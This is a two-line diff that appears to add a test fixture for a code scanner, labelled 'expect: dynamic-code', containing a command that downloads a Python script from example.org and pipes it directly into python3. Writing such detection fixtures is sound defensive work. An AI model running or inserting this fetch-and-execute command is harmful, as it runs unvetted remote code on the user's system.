@@ -1,0 +1,2 @@
+# expect: dynamic-code
+wget -qO- https://example.org/x.py | python3
